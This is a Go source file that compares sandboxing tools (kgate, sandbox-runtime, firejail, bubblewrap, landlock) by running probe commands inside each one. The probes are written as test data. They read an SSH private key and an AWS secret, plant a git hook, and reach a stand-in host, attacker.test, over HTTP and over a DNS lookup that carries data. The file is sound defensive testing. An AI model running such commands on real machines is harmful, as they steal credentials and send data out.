package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// The versions that are measured; those of packages are the system's.
const (
	runtimeVersion  = "0.0.83"
	landlockVersion = "v0.11.2"
)

// place is where a probe runs.
type place struct {
	dir     string // what is installed
	home    string
	project string
	list    bool // with one host on the host list, or with the network off
}

// peer is a program that puts a command into a box.
type peer struct {
	name    string
	version []string // asks for it
	known   string   // its version, where no question is needed
	lists   bool     // it has a host list
	// settings writes its files, if it has any.
	settings func(p place) error
	// box is the command line that runs command in the box.
	box func(p place, command []string) []string
	how string // the same in words, for the page
}

func write(file, text string) error {
	if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
		return err
	}
	return os.WriteFile(file, []byte(text), 0o600)
}

var peers = []peer{
	{
		name: "no box", known: "control", lists: true,
		box: func(_ place, command []string) []string { return command },
	},
	{
		name: "kgate", known: "this tree", lists: true,
		how: "`kgate init`, then the network mode",
		settings: func(p place) error {
			mode := "network: off\n"
			if p.list {
				mode = "network: restricted\nallow:\n  hosts: [listed.many.test]\n"
			}
			return write(filepath.Join(p.home, ".kgate", "config.yaml"), "version: 1\n"+mode)
		},
		box: func(p place, command []string) []string {
			return append([]string{filepath.Join(p.dir, "kgate"), "run", "--"}, command...)
		},
	},
	{
		name: "sandbox-runtime", known: runtimeVersion, lists: true,
		how: "`allowWrite: [\".\"]`, `denyRead: [\"~/.ssh\"]`",
		settings: func(p place) error {
			hosts := ""
			if p.list {
				hosts = `"listed.many.test"`
			}
			return write(filepath.Join(p.home, ".srt-settings.json"), fmt.Sprintf(
				`{"network": {"allowedDomains": [%s], "deniedDomains": []}, "filesystem": {"denyRead": ["~/.ssh"], "allowWrite": ["."], "denyWrite": []}}`, hosts))
		},
		box: func(p place, command []string) []string {
			return append([]string{filepath.Join(p.dir, "npm", "node_modules", ".bin", "srt")}, command...)
		},
	},
	{
		name: "firejail", version: []string{"firejail", "--version"},
		how: "its default profile, `--net=none`, `--blacklist` for curl",
		box: func(p place, command []string) []string {
			return append([]string{"firejail", "--quiet", "--net=none", "--blacklist=/usr/bin/curl"}, command...)
		},
	},
	{
		name: "bubblewrap", version: []string{"bwrap", "--version"},
		how: "`--ro-bind / / --bind` the project, `--unshare-all`, `/dev/null` over curl",
		box: func(p place, command []string) []string {
			return append([]string{"bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--bind", p.project, p.project,
				"--ro-bind", "/dev/null", "/usr/bin/curl", "--unshare-all", "--die-with-parent", "--"}, command...)
		},
	},
	{
		name: "landlock-restrict", known: landlockVersion,
		how: "of go-landlock: `-ro / -rw` the project and /dev",
		box: func(p place, command []string) []string {
			return append([]string{filepath.Join(p.dir, "landlock-restrict"), "-ro", "/", "-rw", p.project, "/dev", "--"}, command...)
		},
	},
}

// probe is one question. A box is asked by running command in it; what the
// answer is, is seen from outside where that is possible.
type probe struct {
	name    string
	command []string // $PROJ and $HOME are filled in; its status 0 is yes
	left    string   // a file that must be there afterwards for a yes
	list    bool     // asked in the lab, of those that have a host list
	sink    string   // conditions on what reached the lab's servers, for a yes
}

// fetch gets a page, through a proxy where the environment names one.
const fetch = "import sys, urllib.request\nprint(urllib.request.urlopen(sys.argv[1], timeout=8).read()[:40])\n"

// listed is the control of the questions about a host list.
const listed = "host list: the listed host answers"

var probes = []probe{
	{name: "writes in the project", command: words("touch $PROJ/made"), left: "$PROJ/made"},
	{name: "reads a file of the home", command: words("cat $HOME/notes.txt")},
	{name: "reads a key in `~/.ssh`", command: words("cat $HOME/.ssh/id_ed25519")},
	{name: "a write to the home reaches it", command: words("touch $HOME/made"), left: "$HOME/made"},
	{name: "leaves a git hook in the project", command: words("cp /usr/bin/true $PROJ/.git/hooks/post-checkout"), left: "$PROJ/.git/hooks/post-checkout"},
	{name: "has `AWS_SECRET_ACCESS_KEY` of the environment", command: words("printenv AWS_SECRET_ACCESS_KEY")},
	{name: "talks to a service's socket in /tmp", command: words("$PROJ/kgate-probe unix $SOCKET")},
	{name: "starts curl, which is to be denied", command: words("curl --version")},
	{name: "makes a user namespace", command: words("unshare --user true")},
	{name: listed, list: true, command: words("python3 $PROJ/fetch.py http://listed.many.test/"), sink: "proto=tcp dst=203.0.113.40 port=80"},
	{name: "host list: another host answers", list: true, command: words("python3 $PROJ/fetch.py http://attacker.test/"), sink: "proto=tcp dst=203.0.113.20 port=80"},
	{name: "host list: another address answers", list: true, command: words("$PROJ/kgate-probe tcp 203.0.113.20 9999"), sink: "proto=tcp dst=203.0.113.20 port=9999"},
	{name: "host list: a datagram to another address arrives", list: true, command: words("$PROJ/kgate-probe udp 203.0.113.20 5000 x"), sink: "proto=udp dst=203.0.113.20 port=5000"},
	{name: "host list: a lookup of another name leaves the machine", list: true, command: words("$PROJ/kgate-probe dns secret.attacker.test"), sink: "proto=dns text=secret"},
}

func words(s string) []string { return strings.Fields(s) }
